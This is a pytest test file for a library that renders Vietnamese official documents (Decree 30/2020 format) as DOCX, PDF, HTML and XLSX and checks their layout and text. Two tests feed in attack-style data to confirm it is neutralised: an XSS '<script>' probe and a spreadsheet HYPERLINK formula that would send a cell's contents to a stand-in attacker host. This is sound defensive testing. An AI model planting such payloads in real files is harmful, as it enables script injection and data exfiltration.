"""Official documents in the format of Decree 30/2020/NĐ-CP (DOCX and PDF) and tables as XLSX.

Each output is opened again with a reader (python-docx, openpyxl, and for the PDF a small reader
of its own streams: pypdf is not a dependency) and checked for what the decree asks."""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Iterable, Iterator
from typing import Any

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from danvan.core.documents import (
    MOTTO_1,
    MOTTO_2,
    Block,
    OfficialDocument,
    Sheet,
    Signature,
    render_docx,
    render_html,
    render_pdf,
    render_xlsx,
)

TOLERANCE_EMU = int(Mm(0.5))


def report(**overrides: Any) -> OfficialDocument:
    values = {
        "agency": "Sở Nội vụ",
        "parent_agency": "UBND tỉnh Bến Tre",
        "symbol": "05/BC-SNV",
        "date_line": "Bến Tre, ngày 05 tháng 01 năm 2026",
        "title": "Báo cáo",
        "summary": "Kết quả cải cách hành chính năm 2025",
        "body": [
            Block("heading", "I. Tình hình chung"),
            Block("paragraph", "Năm 2025, Sở Nội vụ đã triển khai đồng bộ các nhiệm vụ cải cách."),
            Block("bullet", "Tiếp nhận 1.234 hồ sơ đúng hạn."),
            Block(
                "table",
                headers=["STT", "Đơn vị", "Số hồ sơ"],
                rows=[
                    [1, "UBND xã An Hòa", 1234],
                    [2, "UBND xã Bình Lợi", 56.5],
                    [3, "Ghi chú", None],
                ],
            ),
        ],
        "recipients": ["UBND tỉnh", "Bộ Nội vụ", "Lưu: VT, CCHC"],
        "signature": Signature(
            position="Giám đốc",
            name="Nguyễn Văn An",
            prefix="KT. Giám đốc",
            sub_position="Phó Giám đốc",
        ),
    }
    values.update(overrides)
    return OfficialDocument(**values)


def official_letter() -> OfficialDocument:
    return OfficialDocument(
        agency="Ủy ban nhân dân huyện An Phú",
        parent_agency="",
        symbol="12/UBND-VX",
        date_line="An Phú, ngày 15 tháng 3 năm 2026",
        title="",
        summary="V/v triển khai tiếp nhận hồ sơ trực tuyến",
        body=[Block("paragraph", "Kính gửi: Ủy ban nhân dân các xã.")],
        recipients=["Như trên"],
        signature=Signature(
            position="Chủ tịch", prefix="TM. Ủy ban nhân dân", name="Võ Văn Chủ Tịch"
        ),
    )


# --- DOCX ------------------------------------------------------------------------------------------
def _open(data: bytes) -> Any:
    assert data[:2] == b"PK"
    return Document(io.BytesIO(data))


def _texts(paragraphs: Iterable[Any]) -> list[str]:
    return [p.text for p in paragraphs if p.text]


def _para(paragraphs: Iterable[Any], text: str) -> Any:
    found = [p for p in paragraphs if p.text == text]
    assert found, f"{text!r} not in {[p.text for p in paragraphs]}"
    return found[0]


def _size(paragraph: Any) -> float:
    sizes = {r.font.size.pt for r in paragraph.runs if r.text}
    assert len(sizes) == 1, sizes
    return sizes.pop()


def test_docx_header_has_the_agency_in_caps_and_the_national_motto() -> None:
    document = _open(render_docx(report()))
    header = document.tables[0]
    left, right = header.rows[0].cells
    assert _texts(left.paragraphs) == ["UBND TỈNH BẾN TRE", "SỞ NỘI VỤ", "Số: 05/BC-SNV"]
    assert all(r.bold for r in _para(left.paragraphs, "SỞ NỘI VỤ").runs)
    assert not any(r.bold for r in _para(left.paragraphs, "UBND TỈNH BẾN TRE").runs)
    assert _texts(right.paragraphs) == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Bến Tre, ngày 05 tháng 01 năm 2026",
    ]
    assert MOTTO_1 == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert MOTTO_2 == "Độc lập - Tự do - Hạnh phúc"
    assert all(r.bold for r in _para(right.paragraphs, MOTTO_1).runs)
    assert all(r.bold for r in _para(right.paragraphs, MOTTO_2).runs)
    date_line = _para(right.paragraphs, "Bến Tre, ngày 05 tháng 01 năm 2026")
    assert all(r.italic for r in date_line.runs)
    # a short rule under the agency and under the motto: a paragraph with a bottom border
    for cell in (left, right):
        borders = cell._tc.xpath(".//w:pBdr/w:bottom")
        assert len(borders) == 1
        assert borders[0].get(qn("w:val")) == "single"


def test_docx_title_body_recipients_and_signature() -> None:
    document = _open(render_docx(report()))
    body = _texts(document.paragraphs)
    assert body[:5] == [
        "BÁO CÁO",
        "Kết quả cải cách hành chính năm 2025",
        "I. Tình hình chung",
        "Năm 2025, Sở Nội vụ đã triển khai đồng bộ các nhiệm vụ cải cách.",
        "- Tiếp nhận 1.234 hồ sơ đúng hạn.",
    ]
    title = _para(document.paragraphs, "BÁO CÁO")
    assert title.alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert all(r.bold for r in title.runs)
    foot = document.tables[-1]
    recipients, signature = foot.rows[0].cells
    assert _texts(recipients.paragraphs) == [
        "Nơi nhận:",
        "- UBND tỉnh;",
        "- Bộ Nội vụ;",
        "- Lưu: VT, CCHC.",
    ]
    nhan = _para(recipients.paragraphs, "Nơi nhận:")
    assert all(r.bold and r.italic for r in nhan.runs)
    assert _texts(signature.paragraphs) == [
        "KT. GIÁM ĐỐC",
        "GIÁM ĐỐC",
        "PHÓ GIÁM ĐỐC",
        "Nguyễn Văn An",
    ]
    assert all(r.bold for p in signature.paragraphs for r in p.runs if r.text)


def test_docx_official_letter_has_its_summary_under_the_number_and_no_title() -> None:
    document = _open(render_docx(official_letter()))
    left, right = document.tables[0].rows[0].cells
    assert _texts(left.paragraphs) == [
        "ỦY BAN NHÂN DÂN HUYỆN AN PHÚ",
        "Số: 12/UBND-VX",
        "V/v triển khai tiếp nhận hồ sơ trực tuyến",
    ]
    assert _size(_para(left.paragraphs, "V/v triển khai tiếp nhận hồ sơ trực tuyến")) == 12
    assert "An Phú, ngày 15 tháng 3 năm 2026" in _texts(right.paragraphs)
    assert _texts(document.paragraphs) == ["Kính gửi: Ủy ban nhân dân các xã."]
    _, signature = document.tables[-1].rows[0].cells
    assert _texts(signature.paragraphs) == ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH", "Võ Văn Chủ Tịch"]


def test_docx_every_run_is_times_new_roman_at_the_sizes_of_the_decree() -> None:
    document = _open(render_docx(report()))
    runs = [r for p in _all_paragraphs(document) for r in p.runs if r.text]
    assert runs
    for run in runs:
        assert run.font.name == "Times New Roman", run.text
        fonts = run._element.rPr.rFonts
        for attr in ("w:ascii", "w:hAnsi", "w:cs", "w:eastAsia"):
            assert fonts.get(qn(attr)) == "Times New Roman", (run.text, attr)
    assert document.styles["Normal"].font.name == "Times New Roman"
    assert document.styles["Normal"].font.size == Pt(14)

    left, right = document.tables[0].rows[0].cells
    assert 12 <= _size(_para(left.paragraphs, "SỞ NỘI VỤ")) <= 13  # agency: 12-13 pt
    assert 12 <= _size(_para(right.paragraphs, MOTTO_1)) <= 13  # national title: 12-13 pt
    assert 13 <= _size(_para(right.paragraphs, MOTTO_2)) <= 14  # motto: 13-14 pt
    assert 13 <= _size(_para(right.paragraphs, "Bến Tre, ngày 05 tháng 01 năm 2026")) <= 14
    assert _size(_para(left.paragraphs, "Số: 05/BC-SNV")) == 13  # number and symbol: 13 pt
    for paragraph in document.paragraphs:
        if paragraph.text:  # title, summary, body text
            assert 13 <= _size(paragraph) <= 14, paragraph.text
    recipients, signature = document.tables[-1].rows[0].cells
    assert _size(_para(recipients.paragraphs, "Nơi nhận:")) == 12
    assert _size(_para(recipients.paragraphs, "- UBND tỉnh;")) == 11
    for paragraph in signature.paragraphs:
        if paragraph.text:
            assert 13 <= _size(paragraph) <= 14


def _all_paragraphs(document: Any) -> Iterator[Any]:
    yield from document.paragraphs
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                yield from cell.paragraphs


def test_docx_page_is_a4_with_the_margins_of_the_decree() -> None:
    section = _open(render_docx(report())).sections[0]
    expected = {
        "page_width": Mm(210),
        "page_height": Mm(297),
        "top_margin": Mm(20),
        "bottom_margin": Mm(20),
        "left_margin": Mm(30),
        "right_margin": Mm(15),
    }
    for name, value in expected.items():
        assert abs(getattr(section, name) - value) <= TOLERANCE_EMU, name
    # within the ranges of the decree: top/bottom 20-25, left 30-35, right 15-20 mm
    assert Mm(20) - TOLERANCE_EMU <= section.top_margin <= Mm(25) + TOLERANCE_EMU
    assert Mm(30) - TOLERANCE_EMU <= section.left_margin <= Mm(35) + TOLERANCE_EMU
    assert Mm(15) - TOLERANCE_EMU <= section.right_margin <= Mm(20) + TOLERANCE_EMU


def test_docx_tables_have_column_widths_set_on_the_grid_and_the_cells() -> None:
    document = _open(render_docx(report()))
    header, foot = document.tables[0], document.tables[-1]
    text_width = 210 - 30 - 15
    for table, widths in (
        (header, [68, text_width - 68]),
        (foot, [text_width / 2, text_width / 2]),
    ):
        assert table.autofit is False
        for i, width_mm in enumerate(widths):
            # the grid (what LibreOffice reads) and every cell (what Word reads)
            assert abs(table.columns[i].width - Mm(width_mm)) <= TOLERANCE_EMU
            for cell in table.columns[i].cells:
                assert abs(cell.width - Mm(width_mm)) <= TOLERANCE_EMU
    # header and footer tables have no borders
    for table in (header, foot):
        edges = table._tbl.tblPr.xpath("./w:tblBorders/*")
        assert edges and all(e.get(qn("w:val")) == "nil" for e in edges)


def test_docx_data_table_has_headers_and_formatted_numbers() -> None:
    document = _open(render_docx(report()))
    data = document.tables[1]
    rows = [[c.text for c in row.cells] for row in data.rows]
    assert rows == [
        ["STT", "Đơn vị", "Số hồ sơ"],
        ["1", "UBND xã An Hòa", "1.234"],
        ["2", "UBND xã Bình Lợi", "56,5"],
        ["3", "Ghi chú", ""],
    ]
    assert data.rows[1].cells[2].paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.RIGHT
    assert data.rows[1].cells[1].paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.LEFT
    assert all(r.bold for c in data.rows[0].cells for r in c.paragraphs[0].runs)


def test_docx_properties_name_the_document() -> None:
    props = _open(render_docx(report())).core_properties
    assert props.identifier == "05/BC-SNV"
    assert props.author == "Sở Nội vụ"
    assert props.title == "Báo cáo Kết quả cải cách hành chính năm 2025"


# --- PDF -------------------------------------------------------------------------------------------
def _streams(pdf: bytes) -> list[bytes]:
    out = []
    for match in re.finditer(rb"stream\r?\n", pdf):
        try:
            out.append(zlib.decompressobj().decompress(pdf[match.end() :]))
        except zlib.error:
            continue
    return out


def _objects(pdf: bytes) -> bytes:
    """Every object of the file, plain or inside a compressed object stream."""
    return pdf + b"\n".join(_streams(pdf))


def _pdf_text(pdf: bytes) -> list[str]:
    """The lines of text: glyph ids mapped back to characters through the fonts' ToUnicode maps
    (the subsets of one family share glyph ids, so one merged map is enough)."""
    streams = _streams(pdf)
    cmap: dict[int, str] = {}
    for s in streams:
        if b"begincmap" not in s:
            continue
        for block in re.findall(rb"beginbfchar(.*?)endbfchar", s, re.S):
            for gid, uni in re.findall(rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block):
                cmap[int(gid, 16)] = bytes.fromhex(uni.decode()).decode("utf-16-be")
        for block in re.findall(rb"beginbfrange(.*?)endbfrange", s, re.S):
            for a, b, uni in re.findall(
                rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block
            ):
                for i, gid in enumerate(range(int(a, 16), int(b, 16) + 1)):
                    cmap[gid] = chr(int(uni, 16) + i)
    lines = []
    for s in streams:
        for text_object in re.findall(rb"\bBT\b(.*?)\bET\b", s, re.S):
            for array, single in re.findall(
                rb"\[(.*?)\]\s*TJ|<([0-9a-fA-F]*)>\s*Tj", text_object, re.S
            ):
                hexes = re.findall(rb"<([0-9a-fA-F]*)>", array) if array else [single]
                lines.append(
                    "".join(
                        cmap.get(int(h[i : i + 4], 16), "\ufffd")
                        for h in hexes
                        for i in range(0, len(h), 4)
                    )
                )
    return lines


def _page_count(pdf: bytes) -> int:
    objects = _objects(pdf)
    pages = len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", objects))
    counts = [int(n) for n in re.findall(rb"/Type\s*/Pages\b[^>]*?/Count\s+(\d+)", objects)]
    assert counts == [pages]
    return pages


@pytest.fixture(scope="module")
def pdf() -> bytes:
    return render_pdf(report())


def test_pdf_is_a_pdf_of_one_a4_page(pdf: bytes) -> None:
    assert pdf.startswith(b"%PDF-")
    assert pdf.rstrip().endswith(b"%%EOF")
    assert _page_count(pdf) == 1
    boxes = re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", _objects(pdf))
    assert boxes
    for width, height in boxes:  # 210 x 297 mm in points
        assert abs(float(width) - 210 / 25.4 * 72) < 0.5
        assert abs(float(height) - 297 / 25.4 * 72) < 0.5


def test_pdf_embeds_a_times_compatible_serif_font(pdf: bytes) -> None:
    objects = _objects(pdf)
    names = set(re.findall(rb"/FontName\s*/[A-Z]{6}\+([\w-]+)", objects))
    assert names, "no embedded font subsets"
    assert all(re.match(rb"(Liberation-?Serif|Times|Tinos)", n) for n in names), names
    assert b"Liberation-Serif-Bold" in names or b"TimesNewRoman-Bold" in names
    assert len(re.findall(rb"/FontFile2\s+\d+ 0 R", objects)) == len(names)


def test_pdf_contains_the_text_of_the_document(pdf: bytes) -> None:
    lines = _pdf_text(pdf)
    text = "\n".join(lines)
    for expected in [
        "UBND TỈNH BẾN TRE",
        "SỞ NỘI VỤ",
        "Số: 05/BC-SNV",
        "Độc lập - Tự do - Hạnh phúc",
        "Bến Tre, ngày 05 tháng 01 năm 2026",
        "BÁO CÁO",
        "Kết quả cải cách hành chính năm 2025",
        "I. Tình hình chung",
        "UBND xã Bình Lợi",
        "Nơi nhận:",
        "- Lưu: VT, CCHC.",
        "KT. GIÁM ĐỐC",
        "PHÓ GIÁM ĐỐC",
        "Nguyễn Văn An",
    ]:
        assert expected in lines, (expected, text)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT" in text
    assert "\ufffd" not in text


def test_pdf_national_title_stays_on_one_line(pdf: bytes) -> None:
    assert MOTTO_1 in _pdf_text(pdf)


def test_pdf_of_a_long_document_runs_over_several_pages() -> None:
    long = report(
        body=[
            Block(
                "paragraph",
                f"Đoạn {i}: nội dung báo cáo chi tiết của các đơn vị "
                "về tình hình tiếp nhận và giải quyết hồ sơ.",
            )
            for i in range(80)
        ]
    )
    data = render_pdf(long)
    assert _page_count(data) >= 3
    text = _pdf_text(data)
    assert "Nguyễn Văn An" in text


def test_pdf_html_escapes_what_users_typed() -> None:
    html = render_html(report(summary="Về việc <script>alert(1)</script> & “trích yếu”"))
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    assert "@page { size: A4; margin: 20mm 15mm 20mm 30mm; }" in html


# --- XLSX ------------------------------------------------------------------------------------------
def test_xlsx_has_the_headers_and_values() -> None:
    from openpyxl import load_workbook

    data = render_xlsx(
        [
            Sheet(
                title="Hồ sơ theo xã",
                caption="Tình hình giải quyết hồ sơ quý I năm 2026",
                headers=["STT", "Đơn vị", "Số hồ sơ", "Tỷ lệ đúng hạn (%)"],
                rows=[[1, "UBND xã An Hòa", 1234, 98.5], [2, "UBND xã Bình Lợi", 56, None]],
            ),
            Sheet(
                title="Một tên trang tính rất dài vượt quá ba mươi mốt ký tự",
                headers=["Mã"],
                rows=[["A1"]],
            ),
        ]
    )
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Hồ sơ theo xã", "Một tên trang tính rất dài vượt"]
    ws = wb["Hồ sơ theo xã"]
    assert ws["A1"].value == "Tình hình giải quyết hồ sơ quý I năm 2026"
    assert ws["A1"].font.bold
    assert [c.value for c in ws[3]] == ["STT", "Đơn vị", "Số hồ sơ", "Tỷ lệ đúng hạn (%)"]
    assert all(c.font.bold for c in ws[3])
    assert [c.value for c in ws[4]] == [1, "UBND xã An Hòa", 1234, 98.5]
    assert [c.value for c in ws[5]] == [2, "UBND xã Bình Lợi", 56, None]
    assert isinstance(ws["C4"].value, int)  # numbers stay numbers, not text
    assert ws.freeze_panes == "A4"
    assert ws.column_dimensions["B"].width >= len("UBND xã Bình Lợi")
    second = wb.worksheets[1]
    assert [c.value for c in second[1]] == ["Mã"]
    assert second["A2"].value == "A1"
    assert second.freeze_panes == "A2"


def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
    from openpyxl import load_workbook

    typed = '=HYPERLINK("http://ke-gian.example/?c="&A1,"Bấm vào đây")'
    data = render_xlsx(
        [Sheet(title="Đơn", headers=["Nội dung"], rows=[[typed], ["=1+1"], ["bình thường"]])]
    )
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A2"].value == typed
    assert ws["A2"].data_type == "s"
    assert ws["A3"].data_type == "s"
    assert ws["A4"].value == "bình thường"
    # the raw sheet holds no formula element at all
    import zipfile

    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_text_pasted_from_word_with_control_characters_does_not_break_the_files() -> None:
    from openpyxl import load_workbook

    pasted = "Dòng một\x0bdòng hai\x00\x1f"  # Word's soft line break, stray control bytes
    document = _open(render_docx(report(summary=pasted, body=[Block("paragraph", pasted)])))
    texts = [p.text for p in document.paragraphs]
    assert "Dòng một\ndòng hai" in texts
    data = render_xlsx([Sheet(title="Đơn", caption=pasted, headers=["Nội dung"], rows=[[pasted]])])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "Dòng một\ndòng hai"
    assert ws["A4"].value == "Dòng một\ndòng hai"
    assert render_pdf(report(summary=pasted)).startswith(b"%PDF")
